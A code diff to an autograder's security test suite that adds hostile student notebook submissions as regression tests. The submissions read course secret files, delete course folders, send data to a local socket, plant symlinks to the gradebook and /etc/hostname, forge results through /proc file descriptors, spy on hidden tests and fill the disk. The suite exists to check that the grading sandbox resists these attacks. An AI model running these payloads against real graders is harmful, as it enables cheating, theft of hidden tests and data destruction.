@@ -42,12 +42,16 @@ def _sandbox_or_skip():
 
 
 def _tree_hash(path: Path) -> str:
+    """Hash of names and contents; links are hashed as links (never followed)."""
     h = hashlib.sha256()
-    if path.is_file():
+    if path.is_file() and not path.is_symlink():
         return hashlib.sha256(path.read_bytes()).hexdigest()
-    for p in sorted(path.rglob("*")):
-        if p.is_file():
-            h.update(str(p.relative_to(path)).encode() + p.read_bytes())
+    for p in sorted(path.rglob("*"), key=os.fsencode):
+        h.update(os.fsencode(p.relative_to(path)) + b"\0")
+        if p.is_symlink():
+            h.update(b"link:" + os.fsencode(os.readlink(p)))
+        elif p.is_file():
+            h.update(p.read_bytes())
     return h.hexdigest()
 
 
@@ -144,14 +148,19 @@ def _attacks(course, port: int) -> dict[str, tuple]:
                                               "def logsumexp(x, axis=None):\n    return Anything()\n"),
                                 NB, CORRECT - LSE_POINTS, None),
         "tamper_tests": (_tampered_tests(ok), NB, CORRECT - LSE_POINTS, None),
-        "read_secrets": (with_solution(ok, "logsumexp", WRONG_LSE + "import json\n"
+        # if any course file can be read, the attack switches to a correct logsumexp: a leak shows as points
+        "read_secrets": (with_solution(ok, "logsumexp", WRONG_LSE + "import numpy as np\n"
                                        f"for path in {[str(p) for p in secrets]!r}:\n"
-                                       "    try:\n        data = open(path, 'rb').read()\n"
-                                       "        print('LEAK', path)\n"
-                                       "        nb = json.loads(data)\n"
-                                       "        src = [c for c in nb['cells'] if c['metadata'].get('nbgrader', {}).get('grade_id') == 'logsumexp']\n"
-                                       "        exec(''.join(src[0]['source']))\n"
-                                       "    except Exception:\n        pass\n"), NB, CORRECT - LSE_POINTS, None),
+                                       "    try:\n        open(path, 'rb').read(16)\n"
+                                       "    except Exception:\n        continue\n"
+                                       "    def logsumexp(x, axis=None):\n"
+                                       "        x = np.asarray(x, dtype=np.float64)\n"
+                                       "        m = np.max(x, axis=axis, keepdims=True)\n"
+                                       "        m = np.where(np.isfinite(m), m, 0.0)\n"
+                                       "        with np.errstate(divide='ignore'):\n"
+                                       "            s = np.log(np.sum(np.exp(x - m), axis=axis, keepdims=True)) + m\n"
+                                       "        return s.reshape(())[()] if axis is None else np.squeeze(s, axis=axis)\n"),
+                         NB, CORRECT - LSE_POINTS, None),
         "vandal": (with_cell(ok, "logsumexp", "import os, shutil\n"
                                               f"for p in {[str(root / 'source'), str(root / 'submitted' / 'control'), str(repo / 'source'), str(root / 'release')]!r}:\n"
                                               "    shutil.rmtree(p, ignore_errors=True)\n"
@@ -164,6 +173,26 @@ def _attacks(course, port: int) -> dict[str, tuple]:
                                                f"try:\n    s.connect(('127.0.0.1', {port}))\n    s.sendall(b'stolen')\n"
                                                "    print('CONNECTED')\nexcept OSError as e:\n    print('no network:', e)\n"),
                     NB, CORRECT, None),
+        # red-team findings, kept as regression tests
+        "records_symlink": (with_cell(_blank(ok), "conditionals_from_joint",
+                                      "import os\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
+                                      "for target in ['../../../reference/run-chain_rule/records.jsonl', '/etc/hostname']:\n"
+                                      "    try:\n        os.remove('/sandbox/records.jsonl')\n    except OSError:\n        pass\n"
+                                      "    os.symlink(target, '/sandbox/records.jsonl')\n"), NB, 0.0, None),
+        "forge_runner_pipe": (with_cell(with_solution(ok, "logsumexp", WRONG_LSE), "logsumexp",
+                                        "import os, json\nfor fd in ('/proc/%d/fd/1' % os.getppid(), '/proc/1/fd/1'):\n"
+                                        "    try:\n        with open(fd, 'w') as f:\n"
+                                        "            f.write('0' * 64 + ' ' + json.dumps({'index': 0, 'outputs': [], 'records': ''}) + '\\n')\n"
+                                        "    except OSError:\n        pass\n"), NB, CORRECT - LSE_POINTS, None),
+        "spy_on_tests": (with_cell(ok, "conditionals_from_joint",
+                                   "seen = []\nget_ipython().input_transformers_cleanup.append(lambda lines: (seen.extend(lines), lines)[1])\n"
+                                   "import atexit, threading, time\n"
+                                   "threading.Thread(target=lambda: [time.sleep(1) or print(''.join(seen)) for _ in range(60)], daemon=True).start()\n"),
+                         NB, CORRECT, None),
+        "fill_the_disk": (with_cell(ok, "logsumexp", "chunk = b'x' * (1 << 20)\ntry:\n    with open('/sandbox/big.bin', 'wb') as f:\n"
+                                                      "        for _ in range(4096):\n            f.write(chunk)\nexcept OSError as e:\n"
+                                                      "    print('stopped:', e)\n"), NB, CORRECT, None),
+        "deep_json": (b'{"cells": ' + b"[" * 100000 + b"]" * 100000 + b', "nbformat": 4}', NB, 0.0, "rejected"),
         "bad_json": (b"{ this is not json", NB, 0.0, "not valid JSON"),
         "nbformat3": (json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "cells": []}).encode(), NB, 0.0,
                       "nbformat 3"),
@@ -174,6 +203,14 @@ def _attacks(course, port: int) -> dict[str, tuple]:
         "huge_outputs": (_with_huge_output(ok), NB, CORRECT, None),
         "grade_id_edited": (_rename_gid(ok, "logsumexp", "my_lse"), NB, CORRECT - LSE_POINTS, "missing"),
     }
+
+
+def _blank(ok):
+    nb = _copy(ok)
+    for c in nb.cells:
+        if meta(c).get("solution") and c.cell_type == "code":
+            c.source = "raise NotImplementedError()"
+    return nb
 
 
 def _tampered_tests(ok):
@@ -253,10 +290,25 @@ def test_hostile_class_cannot_gain_or_harm(course):
     listener = _Listener()
     attacks = _attacks(course, listener.port)
     for student, (payload, name, _, _) in attacks.items():
+        if payload is None:
+            continue
         if isinstance(payload, bytes):
             _submit(course, student, raw=payload, name=name)
         else:
             _submit(course, student, payload, name=name)
+    # links in the submission folder: a notebook linked to the source, extra files linked to secrets
+    linked = course.root / "submitted" / "symlinked_notebook" / A
+    linked.mkdir(parents=True)
+    (linked / NB).symlink_to(course.root / "source" / A / NB)
+    extra = course.root / "submitted" / "symlinked_extras" / A
+    extra.mkdir(parents=True)
+    nbformat.write(with_solution(course.correct_nb, "logsumexp", WRONG_LSE + "print(open('gb.txt', 'rb').read(15))\n"),
+                   str(extra / NB))
+    (extra / "gb.txt").symlink_to(course.root / "gradebook.db")
+    (extra / "records.jsonl").write_text('{"name": "test_logsumexp/small", "kind": "close", "value": 0.6931471805599453}\n')
+    (extra / "notes\udcff.txt").write_bytes(b"a file whose name is not UTF-8")
+    attacks["symlinked_notebook"] = (None, NB, 0.0, "symbolic links")
+    attacks["symlinked_extras"] = (None, NB, CORRECT - LSE_POINTS, "symbolic links")
     protected = {p: _tree_hash(p) for p in [course.root / "source", course.root / "release",
                                              course.root / "nbgrader_config.py", ROOT / "source" / A]}
     protected.update({p: _tree_hash(p) for p in (course.root / "submitted").iterdir()})
@@ -285,11 +337,17 @@ def test_hostile_class_cannot_gain_or_harm(course):
     def outputs_text(student):
         return "".join(json.dumps(c.get("outputs", [])) for p in (graded / student).rglob("*.ipynb")
                        for c in nbformat.read(str(p), 4).cells if c.cell_type == "code")
-    assert "LEAK" not in outputs_text("read_secrets"), "a submission read the course's files"
     huge = next((graded / "huge_stdout" / A).glob("*.ipynb")).stat().st_size
     assert huge < 2 * 2**20, f"the graded notebook kept {huge} bytes of output"
-    assert "no network" in outputs_text("network") and "CONNECTED" not in outputs_text("network")
+    assert "CONNECTED" not in outputs_text("network")
     assert _cgroups() == cgroups_before, "cgroups were left behind"
+    # what a spying submission captured (the hidden tests sent to its kernel) never reaches feedback
+    from llmcourse.course import run_nbgrader
+    from llmcourse.trusted import hidden_secrets
+    run_nbgrader(["generate_feedback", A, "--student", "spy_on_tests", "--force"], cwd=course.root, env=course.env)
+    page = next((course.root / "feedback" / "spy_on_tests" / A).glob("*.html")).read_text()
+    shown = [sec for sec in hidden_secrets(nbformat.read(str(ROOT / "source" / A / NB), 4)) if sec in page]
+    assert not shown, f"hidden test text in feedback: {shown[:3]}"
     scores = cell_scores(db_url, A)
     assert set(scores) == set(attacks) | {"control"}
     print(f"\n{len(attacks)} hostile submissions graded in {batch_s:.0f} s")
